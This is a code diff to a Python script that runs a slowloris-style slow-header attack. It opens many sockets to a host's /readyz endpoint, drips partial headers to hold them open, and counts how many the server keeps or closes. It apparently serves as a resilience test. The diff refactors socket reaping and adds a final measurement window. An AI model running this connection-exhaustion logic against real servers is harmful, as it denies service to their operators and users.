@@ -38,6 +38,26 @@ def opt(args, name, default=None):
     return default
 
 
+def reap(sel, socks, events):
+    """Closes the sockets the server closed (they read as EOF or an
+    error); returns how many."""
+    closed = 0
+    for key, _ in events:
+        s = key.fileobj
+        try:
+            data = s.recv(4096)
+        except (BlockingIOError, InterruptedError):
+            continue
+        except OSError:
+            data = b""
+        if not data:
+            sel.unregister(s)
+            s.close()
+            del socks[s]
+            closed += 1
+    return closed
+
+
 def attack(host, port, source, n, seconds):
     sel = selectors.DefaultSelector()
     head = b"GET /readyz HTTP/1.1\r\nHost: x\r\nX-Slow: "
@@ -64,20 +84,7 @@ def attack(host, port, source, n, seconds):
             sel.register(s, selectors.EVENT_READ)
             opened += 1
             budget -= 1
-        # A socket the server closed reads as EOF (or an error).
-        for key, _ in sel.select(timeout=0.1):
-            s = key.fileobj
-            try:
-                data = s.recv(4096)
-            except (BlockingIOError, InterruptedError):
-                continue
-            except OSError:
-                data = b""
-            if not data:
-                sel.unregister(s)
-                s.close()
-                del socks[s]
-                closed += 1
+        closed += reap(sel, socks, sel.select(timeout=0.1))
         now = time.monotonic()
         if now - last_drip >= 1.0:
             last_drip = now
@@ -91,6 +98,14 @@ def attack(host, port, source, n, seconds):
                 except OSError:
                     pass  # seen as EOF on the next round
         held_max = max(held_max, len(socks) if now - last_drip < 0.5 else 0)
+    # What the server still holds: no more opens, and the EOFs of the
+    # sockets it closed read first (one it refused just now is not held).
+    quiet_until = time.monotonic() + 1.0
+    while time.monotonic() < quiet_until:
+        events = sel.select(timeout=0.3)
+        if not events:
+            break
+        closed += reap(sel, socks, events)
     held_end = len(socks)
     for s in socks:
         s.close()
